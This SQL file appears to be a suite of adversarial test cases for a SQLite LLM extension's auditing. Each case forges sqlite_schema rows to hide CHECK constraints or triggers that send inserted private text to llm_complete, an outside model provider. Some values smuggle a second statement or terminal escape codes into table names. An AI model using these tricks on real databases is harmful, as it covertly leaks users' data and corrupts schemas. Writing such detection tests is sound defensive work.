-- Rows of sqlite_schema that lie, and what hides them from whoever reads that table.

--- a type in capitals
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET type = 'TABLE' WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');
PRAGMA integrity_check;

--- type, name and text are BLOBs
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET type = CAST(type AS BLOB), name = CAST(name AS BLOB), tbl_name = CAST(tbl_name AS BLOB), sql = CAST(sql AS BLOB) WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');

--- the name says another table
CREATE TABLE Notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE INDEX i ON Notes(t);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET name = 'NOTES', tbl_name = 'nOTES' WHERE name = 'Notes';
UPDATE sqlite_schema SET tbl_name = 'NOTEs' WHERE name = 'i';
-- victim
INSERT INTO notes VALUES ('private');

--- UTF-16, little end first
-- models: none
PRAGMA encoding = 'UTF-16le';
CREATE TABLE llm_models(name TEXT PRIMARY KEY, provider TEXT, api TEXT, base_url TEXT, key_env TEXT, context_window INTEGER, max_output INTEGER, supports TEXT);
INSERT INTO llm_models VALUES ('gpt-4o-mini', 'openai', 'openai', 'URL/v1', 'OPENAI_API_KEY', 1, 1, '{}');
CREATE TABLE notes(t TEXT CHECK (llm_complete(t, '{"model":"gpt-4o-mini"}') <> ''));
-- victim
INSERT INTO notes VALUES ('private');

--- UTF-16, big end first, and the text a BLOB
-- models: none
PRAGMA encoding = 'UTF-16be';
CREATE TABLE llm_models(name TEXT PRIMARY KEY, provider TEXT, api TEXT, base_url TEXT, key_env TEXT, context_window INTEGER, max_output INTEGER, supports TEXT);
INSERT INTO llm_models VALUES ('gpt-4o-mini', 'openai', 'openai', 'URL/v1', 'OPENAI_API_KEY', 1, 1, '{}');
CREATE TABLE notes(t TEXT CHECK (llm_complete(t, '{"model":"gpt-4o-mini"}') <> ''));
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = CAST(sql AS BLOB) WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');

--- text behind a NUL, a NUL within a comment
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE more(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = sql || char(0) || ' */ no more here' WHERE name = 'notes';
UPDATE sqlite_schema SET sql = CAST(sql || '/* ' || char(0) || '*/' AS BLOB) WHERE name = 'more';
-- victim
INSERT INTO notes VALUES ('private');
INSERT INTO more VALUES ('private');

--- two statements in a row, and one behind a semicolon
CREATE TABLE notes(t TEXT);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> '''')); CREATE TABLE notes(t);' WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');

--- blanks between the words of CREATE TABLE that only SQLite takes for such
CREATE TABLE notes(t TEXT);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE ' || char(11, 12, 13, 9) || ' TABLE ' || char(65279) || 'notes(t TEXT CHECK (llm_complete(t) <> ''''))' WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');

--- CREATE, then a comment, then what it makes
CREATE TABLE notes(t TEXT);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = 'CREATE/* VIEW */TABLE/**/IF NOT EXISTS--
"notes"(t TEXT CHECK (llm_complete(t) <> ''''))' WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');

--- an index on sqlite_master that says there are no rows
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE d(type text, name text, tbl_name text, rootpage int, sql text);
CREATE INDEX i ON d(sql);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET tbl_name = 'sqlite_master', sql = 'CREATE INDEX i ON sqlite_master(sql)' WHERE name = 'i';
-- victim
INSERT INTO notes VALUES ('private');

--- indexes on sqlite_master over all its columns, with statistics that praise them
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE d(type text, name text, tbl_name text, rootpage int, sql text);
CREATE INDEX i ON d(sql, type, name, tbl_name, rootpage);
CREATE INDEX j ON d(name) WHERE sql IS NOT NULL;
CREATE TABLE x(a);
CREATE INDEX y ON x(a);
INSERT INTO x VALUES (1);
ANALYZE;
DELETE FROM sqlite_stat1;
INSERT INTO sqlite_stat1 VALUES ('sqlite_master', 'i', '1000000 1 1 1 1 1 sz=1'), ('sqlite_master', 'j', '1000000 1 sz=1');
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET tbl_name = 'sqlite_master', sql = 'CREATE INDEX i ON sqlite_master(sql, type, name, tbl_name, rootpage)' WHERE name = 'i';
UPDATE sqlite_schema SET tbl_name = 'sqlite_master', sql = 'CREATE INDEX j ON sqlite_master(name) WHERE sql IS NOT NULL' WHERE name = 'j';
-- victim
INSERT INTO notes VALUES ('private');

--- a table called sqlite_schema
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE fake(type, name, tbl_name, rootpage, sql);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET name = 'sqlite_schema', tbl_name = 'sqlite_schema', sql = replace(sql, 'TABLE fake', 'TABLE IF NOT EXISTS sqlite_schema') WHERE name = 'fake';
-- victim
INSERT INTO notes VALUES ('private');

--- a table whose root is the one of sqlite_schema, with its columns turned round
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
INSERT INTO sqlite_schema VALUES ('table', 'sqlite_master', 'sqlite_master', 1, 'CREATE TABLE IF NOT EXISTS sqlite_master(sql text, name text, tbl_name text, rootpage int, type text)');
-- victim
INSERT INTO notes VALUES ('private');

--- a table whose root is a leaf of sqlite_schema, and a trigger that cleans up in it before the CHECK
PRAGMA page_size = 512;
VACUUM;
CREATE TABLE pad1(x /* a comment of some length, so that this row takes its place on the page of the schema, one */);
CREATE TABLE pad2(x /* a comment of some length, so that this row takes its place on the page of the schema, two */);
CREATE TABLE pad3(x /* a comment of some length, so that this row takes its place on the page of the schema, three */);
CREATE TABLE pad4(x /* a comment of some length, so that this row takes its place on the page of the schema, four */);
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE leaf(type text, name text, tbl_name text, rootpage int, sql text);
CREATE TRIGGER tr BEFORE INSERT ON notes BEGIN UPDATE leaf SET sql = 'CREATE TABLE notes(t TEXT)' WHERE name = 'notes'; END;
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET rootpage = (SELECT pageno FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf' AND path = (SELECT max(path) FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf') LIMIT 1) WHERE name = 'leaf';
-- victim
INSERT INTO notes VALUES ('private');

--- the same in what a module reads: the row of the virtual table is another when the ledger is asked
PRAGMA page_size = 512;
VACUUM;
CREATE TABLE pad1(x /* a comment of some length, so that this row takes its place on the page of the schema, one */);
CREATE TABLE pad2(x /* a comment of some length, so that this row takes its place on the page of the schema, two */);
CREATE TABLE pad3(x /* a comment of some length, so that this row takes its place on the page of the schema, three */);
CREATE TABLE pad4(x /* a comment of some length, so that this row takes its place on the page of the schema, four */);
CREATE VIRTUAL TABLE ft USING fts5(text, content='llm_texts', content_rowid='rowid');
CREATE TABLE stolen(x);
CREATE TABLE notes(t TEXT);
CREATE TABLE leaf(type text, name text, tbl_name text, rootpage int, sql text);
CREATE TRIGGER tr BEFORE INSERT ON notes BEGIN UPDATE leaf SET sql = 'CREATE VIRTUAL TABLE ft USING fts5(text)' WHERE name = 'ft'; INSERT INTO stolen SELECT text FROM ft; END;
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET rowid = 1000 WHERE name = 'ft';
UPDATE sqlite_schema SET rootpage = (SELECT pageno FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf' AND path = (SELECT max(path) FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf') LIMIT 1) WHERE name = 'leaf';
-- victim
INSERT INTO notes VALUES ('private');

--- the same with the row gone, and the table that lies there hidden from who goes by the rows
PRAGMA page_size = 512;
VACUUM;
CREATE TABLE pad1(x /* a comment of some length, so that this row takes its place on the page of the schema, one */);
CREATE TABLE pad2(x /* a comment of some length, so that this row takes its place on the page of the schema, two */);
CREATE TABLE pad3(x /* a comment of some length, so that this row takes its place on the page of the schema, three */);
CREATE TABLE pad4(x /* a comment of some length, so that this row takes its place on the page of the schema, four */);
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE leaf(type text);
CREATE TRIGGER tr BEFORE INSERT ON notes BEGIN DELETE FROM leaf; END;
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET rootpage = (SELECT pageno FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf' AND path = (SELECT max(path) FROM dbstat WHERE name IN ('sqlite_schema', 'sqlite_master') AND pagetype = 'leaf') LIMIT 1) WHERE name = 'leaf';
-- victim
INSERT INTO notes VALUES ('private');

--- the same page for two tables: a CHECK that is looked up under another name
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
CREATE TABLE clean(t TEXT);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET rootpage = (SELECT rootpage FROM sqlite_schema WHERE name = 'notes') WHERE name = 'clean';
INSERT INTO clean VALUES ('private');
-- victim
INSERT INTO clean VALUES ('private');
UPDATE notes SET t = 'private';
PRAGMA integrity_check;

--- rows of the schema in another order, with a name that is used twice
CREATE TABLE notes(t TEXT);
CREATE TABLE z(t TEXT CHECK (llm_complete(t) <> ''));
CREATE INDEX zi ON z(t);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET rowid = -rowid WHERE name IN ('z');
UPDATE sqlite_schema SET rowid = 9223372036854775807 WHERE name = 'zi';
-- victim
INSERT INTO z VALUES ('private');

--- a schema of ten thousand bytes in one row
CREATE TABLE notes(t TEXT CHECK (llm_complete(t) <> ''));
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET sql = replace(sql, 'CHECK', '/*' || hex(zeroblob(60000)) || '*/ CHECK') WHERE name = 'notes';
-- victim
INSERT INTO notes VALUES ('private');

--- a name that would end the statement which is recommended
CREATE TABLE [a"; SELECT llm_trust_store(); --](t CHECK (llm_complete(t) <> ''));
-- unsaid: "a"; SELECT
-- victim
INSERT INTO [a"; SELECT llm_trust_store(); --] VALUES ('private');

--- a name with the signs that move a terminal's cursor
CREATE TABLE notes(t);
PRAGMA writable_schema = ON;
UPDATE sqlite_schema SET name = 'n' || char(27) || '[2J', tbl_name = 'n' || char(27) || '[2J', sql = 'CREATE TABLE "n' || char(27) || '[2J"(t CHECK (llm_complete(t) <> ''''))' WHERE name = 'notes';
CREATE VIEW door AS SELECT 1 AS t;
-- unsaid: [2J
-- clients: shell python
-- victim
SELECT llm_complete('x');
